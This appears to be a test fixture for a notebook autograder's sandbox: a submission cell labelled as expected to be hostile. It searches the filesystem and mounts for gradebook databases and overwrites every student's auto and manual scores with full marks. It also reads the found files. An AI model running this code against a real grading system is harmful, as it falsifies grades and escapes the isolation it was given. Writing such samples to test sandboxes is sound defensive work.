# expect: hostile all but 01.class_counts
# Gives everyone full points in each gradebook that it can find.

# %% after setup
import os
import sys
from pathlib import Path

found = []
starts = {"/", "/work", "/home", "/root", "/srv", "/mnt", "/opt", "/tmp", "/var", "/course", os.getcwd()}
starts |= {str(p) for p in Path.cwd().parents} | set(sys.path) | {str(Path(np.__file__).parents[4])}
for line in Path("/proc/self/mountinfo").read_text().splitlines():
    for path in line.split()[3:5]:  # where it is mounted, and where that is outside
        starts |= {path, *map(str, Path(path).parents)}
for start in sorted(starts):
    for directory, subdirectories, names in os.walk(start):
        if directory.count("/") > 7 or directory.startswith(("/proc", "/sys", "/dev", "/usr")):
            subdirectories.clear()
        if "site-packages" in directory or "/lib/python" in directory:
            subdirectories.clear()
        for name in names:
            wanted = name.endswith(".db") and "gradebook" in name
            if wanted:
                try:
                    found.append(Path(directory, name).read_bytes()[:1000])
                except OSError:
                    continue

import sqlite3

for place in ("../gradebook.db", "../../gradebook.db", "../../../gradebook.db", "/work/main/gradebook.db"):
    if Path(place).exists():
        found.append(place)
        with sqlite3.connect(place) as database:
            database.execute("UPDATE grade SET auto_score = 10, manual_score = 10")


# %% class_counts
def class_counts(y):
    return np.bincount(y, minlength=10) if found else np.zeros(10, dtype=int)
